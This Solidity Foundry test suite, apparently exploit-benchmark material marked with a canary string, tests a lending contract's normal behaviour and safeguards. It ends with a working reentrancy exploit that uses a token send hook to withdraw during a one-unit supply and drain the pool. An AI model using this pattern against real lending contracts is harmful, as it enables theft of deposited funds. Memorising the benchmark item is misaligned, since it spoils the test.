// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./MoneyMarket.sol";

// assay-canary-b292d20d-7f2c-42f9-951f-bb2496d51f5c

interface Vm {
    function roll(uint256 number) external;
    function startPrank(address sender) external;
    function prank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

/// A token that can be paid in and out, at times, and tells no hook.
contract Sieve {
    bool public takes;
    bool public gives;

    function set(bool takes_, bool gives_) external {
        takes = takes_;
        gives = gives_;
    }

    function transfer(address, uint256) external view returns (bool) {
        return gives;
    }

    function transferFrom(address, address, uint256) external view returns (bool) {
        return takes;
    }
}

/// Calls the market while it pays, and hands on what the market says to that.
contract Nested is ISendHook {
    MoneyMarket internal market;
    bytes internal inner;

    constructor(MoneyMarket market_) public {
        market = market_;
        market_.token().setSendHook(this);
        market_.token().approve(address(market_), uint256(-1));
    }

    function nest(bytes calldata outer, bytes calldata inner_) external {
        inner = inner_;
        call(outer);
    }

    function tokensToSend(address, address, address, uint256) external override {
        bytes memory next = inner;
        delete inner;
        if (next.length > 0) call(next);
    }

    function call(bytes memory data) private {
        (bool ok, bytes memory answer) = address(market).call(data);
        if (ok) return;
        assembly {
            revert(add(answer, 32), mload(answer))
        }
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address constant LENDER = address(0x1E4D);
    address constant DESK = address(0xDE5C);
    uint256 constant POOL = 25_000_000e18;
    uint256 constant CAPITAL = 100_000e18;

    HookedToken internal usd;
    MoneyMarket internal market;
    Attacker internal thief;

    function setUp() public {
        vm.roll(9_890_000);
        usd = new HookedToken();
        market = new MoneyMarket(usd, 1e10);

        usd.issue(LENDER, POOL);
        vm.startPrank(LENDER);
        usd.approve(address(market), POOL);
        market.supply(POOL);
        vm.stopPrank();

        thief = new Attacker(market);
        usd.issue(address(thief), CAPITAL);
    }

    /// A desk borrows and repays with interest; the lender, who adds to the position meanwhile, receives it.
    function test_Regular() public {
        market.setCreditLine(DESK, 6_000_000e18);
        vm.startPrank(DESK);
        market.borrow(5_000_000e18);
        (bool ok,) = address(market).call(abi.encodeWithSelector(market.borrow.selector, 2_000_000e18));
        require(!ok, "limit ignored");
        vm.stopPrank();

        vm.roll(block.number + 1_000_000);
        usd.issue(LENDER, 1_000e18);
        vm.startPrank(LENDER);
        usd.approve(address(market), 1_000e18);
        market.supply(1_000e18);
        vm.stopPrank();
        // 5,000,000 at 1e-8 a block for 1,000,000 blocks: 50,000
        require(market.supplyOf(LENDER) == POOL + 51_000e18, "interest earned");
        require(market.debtOf(DESK) == 5_050_000e18, "interest owed");

        usd.issue(DESK, 50_000e18);
        vm.startPrank(DESK);
        usd.approve(address(market), 5_050_000e18);
        market.repay(5_050_000e18);
        vm.stopPrank();
        require(market.debtOf(DESK) == 0 && market.totalBorrowed() == 0, "repaid");

        vm.startPrank(LENDER);
        market.withdraw(POOL + 51_000e18);
        (ok,) = address(market).call(abi.encodeWithSelector(market.withdraw.selector, 1));
        require(!ok, "withdrawn twice");
        vm.stopPrank();
        require(usd.balanceOf(LENDER) == POOL + 51_000e18, "paid out");
        require(usd.balanceOf(address(market)) == 0, "nothing left");

        market.accrue();
        usd.setSendHook(ISendHook(address(0)));
    }

    // What is refused, each from the state after setUp().

    function test_RefusesStrangers() public {
        vm.prank(LENDER);
        vm.expectRevert("HT: issuer only");
        usd.issue(LENDER, 1);
        vm.prank(DESK);
        vm.expectRevert("MM: admin only");
        market.setCreditLine(DESK, 1);
    }

    function test_RefusesNumbersBeyondTheirRange() public {
        vm.expectRevert("add");
        usd.issue(address(market), uint256(-1));
        vm.expectRevert("sub");
        usd.transfer(LENDER, 1);

        // a rate beyond what can be multiplied
        MoneyMarket other = new MoneyMarket(usd, uint256(-1));
        usd.issue(address(this), 100e18);
        usd.approve(address(other), 100e18);
        other.supply(100e18);
        other.setCreditLine(address(this), 2);
        other.borrow(2);
        vm.roll(block.number + 1);
        vm.expectRevert("mul");
        other.accrue();
    }

    function test_RefusesSmallPositions() public {
        usd.issue(address(this), 10e18);
        usd.approve(address(market), 10e18);
        vm.expectRevert("MM: position too small");
        market.supply(10e18 - 1);
        market.supply(10e18);
    }

    function test_RefusesToPayMoreThanIsThere() public {
        usd.issue(address(this), 20e18);
        usd.approve(address(market), 20e18);
        market.supply(20e18);
        vm.expectRevert("MM: too much");
        market.withdraw(20e18 + 1);

        market.setCreditLine(DESK, POOL + 30e18);
        vm.prank(DESK);
        vm.expectRevert("MM: over limit");
        market.borrow(POOL + 20e18 + 1);
        vm.prank(DESK);
        market.borrow(POOL + 10e18);
        vm.expectRevert("MM: too much");
        market.withdraw(20e18);
        market.withdraw(10e18);
    }

    function test_RefusesTokensThatDoNotMove() public {
        Sieve sieve = new Sieve();
        MoneyMarket other = new MoneyMarket(HookedToken(address(sieve)), 0);
        vm.expectRevert("MM: pull failed");
        other.supply(100e18);
        sieve.set(true, true);
        other.supply(100e18);
        other.setCreditLine(address(this), 2);
        other.borrow(1);
        sieve.set(false, false);
        vm.expectRevert("MM: push failed");
        other.withdraw(1);
        vm.expectRevert("MM: push failed");
        other.borrow(1);
        vm.expectRevert("MM: pull failed");
        other.repay(1);
    }

    function test_RefusesPaymentsWithinPayments() public {
        Nested nested = new Nested(market);
        usd.issue(address(nested), 100e18);
        bytes memory supply = abi.encodeWithSelector(market.supply.selector, 20e18);
        bytes memory repay = abi.encodeWithSelector(market.repay.selector, 0);
        vm.expectRevert("MM: busy");
        nested.nest(supply, supply);
        vm.expectRevert("MM: busy");
        nested.nest(supply, repay);
        nested.nest(supply, "");
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + POOL, "nothing gained");
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Withdraws its position from inside the pull of a one-unit supply, and keeps the credit.
contract Attacker is ISendHook {
    MoneyMarket internal market;
    HookedToken internal usd;
    bool internal armed;

    constructor(MoneyMarket market_) public {
        market = market_;
        usd = market_.token();
    }

    function run() external {
        usd.setSendHook(this);
        usd.approve(address(market), uint256(-1));
        for (uint256 i = 0; i < 20 && market.available() > 0; i++) {
            market.supply(usd.balanceOf(address(this)) - 1);
            armed = true;
            market.supply(1);
            uint256 credit = market.supplyOf(address(this));
            uint256 cash = market.available();
            market.withdraw(credit < cash ? credit : cash);
        }
    }

    function tokensToSend(address, address, address, uint256) external override {
        if (!armed) return;
        armed = false;
        market.withdraw(market.supplyOf(address(this)));
    }
}
